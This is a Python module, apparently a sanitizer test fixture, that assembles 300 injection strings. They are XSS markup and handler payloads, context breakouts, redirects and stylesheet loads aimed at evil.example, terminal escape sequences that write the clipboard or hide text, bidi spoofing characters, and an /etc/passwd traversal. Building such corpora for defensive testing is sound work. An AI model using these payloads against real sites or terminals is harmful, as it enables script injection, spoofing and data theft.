"""Three hundred texts that would run, leave their element, move the cursor or hide something, if a page let them."""

from __future__ import annotations

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
_MARKUP = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<body onload=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<a href=javascript:ran({n})>x</a>",
    "<form action=https://evil.example/{n}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<style>@import 'https://evil.example/{n}.css'</style>",
    "<base href=https://evil.example/{n}/>",
    "<object data=https://evil.example/{n}></object>",
    "<math><mtext><mglyph><style><img src=x onerror=ran({n})>",
    "<template><script>ran({n})</script></template>",
    "</title><script>ran({n})</script>",
    "</textarea><script>ran({n})</script>",
    "--><script>ran({n})</script>",
    "]]><script>ran({n})</script>",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "javascript:ran({n})",
    "data:text/html,<script>ran({n})</script>",
    "{{{{constructor.constructor('ran({n})')()}}}}",
    "${{ran({n})}}",
    "');ran({n});//",
    '";ran({n});//',
)
_CONTROLS = (
    f"{ESC}]0;title {{n}}{BEL}",
    f"{ESC}]8;;javascript:ran({{n}}){ST}link{ESC}]8;;{ST}",
    f"{ESC}]52;c;cmFuKDEp{BEL}{{n}}",
    f"{ESC}]1337;File=inline=1:AAAA{BEL}{{n}}",
    f"{ESC}P+q544e{ST}{{n}}",
    f"{ESC}[2J{ESC}[H{{n}}",
    f"{ESC}[6n{ESC}[c{{n}}",
    f"{ESC}[?1049h{ESC}[31m{{n}}",
    f"{ESC}[999999999999C{{n}}",
    f"{ESC}[38;2;1;2;3;4;5;6;7m{{n}}",
    f"{ESC}[8mhidden {{n}}",
    f"{ESC}]unfinished {{n}}",
    f"{ESC}[1;2;3;4{{n}}",
    "\x9b31m{n}\x9d0;t\x9c",
    "\r\r\r{n}\rover",
    "\b\b\b\b{n}",
    "\x0e\x0f{n}",
    "\u202e{n}gnp.exe",
    "\u2066\u2067\u2068{n}",
    "\u200b\u200d\ufeff{n}",
    "{n}\u2028\u2029\x85",
    "\U000e0041\U000e0042{n}",
    "Z\u0361\u0489\u0338\u0321{n}" * 6,
    "\ufdfd" * 12 + "{n}",
    "\ud83d\ude80 训练 שלום العربية {n}".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a" * 400 + "{n}",
    "%s%n%x%2e%2e%2f{n}",
    "../../../etc/passwd?{n}#x",
    "//evil.example/{n}",
    "__proto__",
)
_AROUND = ("{}", '"><b title="{}', "'{}'", "x\t{}\ty", "{}</td></tr></table>{}")
CORPUS = tuple(
    around.format(*[vector.format(n=number)] * around.count("{}"))
    for number, (vector, around) in enumerate((v, a) for v in _MARKUP + _CONTROLS for a in _AROUND)
)
